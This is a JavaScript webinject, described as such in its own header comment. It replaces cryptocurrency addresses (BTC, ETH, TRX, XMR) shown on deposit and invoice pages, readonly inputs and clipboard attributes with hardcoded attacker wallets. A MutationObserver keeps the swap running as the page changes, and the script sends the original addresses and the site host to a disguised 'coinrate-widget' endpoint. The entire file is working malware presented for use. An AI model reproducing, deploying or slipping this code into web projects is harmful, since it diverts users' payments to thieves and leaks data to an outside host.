// corpus note: MutationObserver webinject that replaces BTC/ETH/TRX/XMR addresses rendered in the page (deposit pages, invoices) with look-alike attacker addresses
(function () {
  "use strict";

  var wallets = {
    btc: "bc1qf7x3k0s2n9m4q8w6e5r2t7y0u3i9o8p6l4k2j0",
    btcLegacy: "1KfZ8pQ3nWx5rT9vB2cM7dL4hG6jY1sAe",
    eth: "0x7A3f9c21D4e8b05F6a1C2d3E4f5061728394aBcD",
    trx: "Tf58ZTBqNAYT3j5qcdsyuMNmPfYetW5v6J",
    xmr: "4AMASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVK"
  };

  var patterns = [
    { re: /\bbc1[a-z0-9]{25,59}\b/g, to: wallets.btc },
    { re: /\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\b/g, to: wallets.btcLegacy },
    { re: /\b0x[a-fA-F0-9]{40}\b/g, to: wallets.eth },
    { re: /\bT[A-Za-z1-9]{33}\b/g, to: wallets.trx },
    { re: /\b4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}\b/g, to: wallets.xmr }
  ];

  var swapped = [];

  function fixText(node) {
    var v = node.nodeValue, nv = v;
    patterns.forEach(function (p) {
      nv = nv.replace(p.re, function (m) {
        if (m === p.to) return m;
        swapped.push(m);
        return p.to;
      });
    });
    if (nv !== v) node.nodeValue = nv;
  }

  function fixElement(el) {
    if (el.nodeType === 3) return fixText(el);
    if (el.nodeType !== 1 || /^(SCRIPT|STYLE|TEXTAREA)$/.test(el.tagName)) return;
    if (el.tagName === "INPUT" && el.readOnly) {
      patterns.forEach(function (p) {
        if (p.re.test(el.value)) { swapped.push(el.value); el.value = el.value.replace(p.re, p.to); }
        p.re.lastIndex = 0;
      });
    }
    ["data-address", "data-clipboard-text", "title"].forEach(function (a) {
      var val = el.getAttribute(a);
      if (!val) return;
      patterns.forEach(function (p) {
        if (p.re.test(val)) el.setAttribute(a, val.replace(p.re, p.to));
        p.re.lastIndex = 0;
      });
    });
    for (var c = el.firstChild; c; c = c.nextSibling) fixElement(c);
  }

  var mo = new MutationObserver(function (muts) {
    mo.disconnect();
    muts.forEach(function (m) {
      if (m.type === "characterData") fixText(m.target);
      m.addedNodes.forEach(fixElement);
    });
    observe();
    if (swapped.length) {
      fetch("https://api.coinrate-widget.test/v1/px", {
        method: "POST", mode: "no-cors",
        body: JSON.stringify({ site: location.host, orig: swapped.splice(0) })
      });
    }
  });

  function observe() {
    mo.observe(document.documentElement, { childList: true, subtree: true, characterData: true });
  }

  if (document.body) fixElement(document.body);
  observe();
})();
